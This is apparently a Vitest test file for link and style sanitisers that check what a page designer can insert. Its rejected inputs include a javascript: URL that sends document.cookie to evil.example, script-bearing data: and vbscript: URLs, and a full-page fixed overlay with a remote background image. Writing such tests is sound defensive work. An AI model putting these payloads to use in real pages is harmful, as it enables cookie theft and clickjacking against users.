import { describe, expect, it } from "vitest";
import { safeStyle, webUrl } from "./safe";

describe("what a design author can put in the page", () => {
  it("a link button opens web pages only", () => {
    expect(webUrl("https://example.com/a?b=1")).toBe("https://example.com/a?b=1");
    expect(webUrl("/agent-detail?id=1")).toBe(`${window.location.origin}/agent-detail?id=1`);
    for (const bad of [
      "javascript:fetch('//evil.example/?c='+document.cookie)",
      " JavaScript:alert(1)",
      "data:text/html,<script>1</script>",
      "vbscript:x",
    ])
      expect(webUrl(bad), bad).toBeNull();
  });

  it("a style cannot cover the page or load from elsewhere", () => {
    expect(
      safeStyle({ position: "fixed", inset: 0, zIndex: 99999, color: "red", background: "url(https://evil.example/x)", padding: 8 }),
    ).toEqual({ inset: 0, color: "red", padding: 8 });
    expect(safeStyle({ position: "relative", backgroundImage: "image-set('x' 1x)", fontSize: { nested: 1 } })).toEqual({
      position: "relative",
    });
    expect(safeStyle("color:red")).toBeUndefined();
  });
});
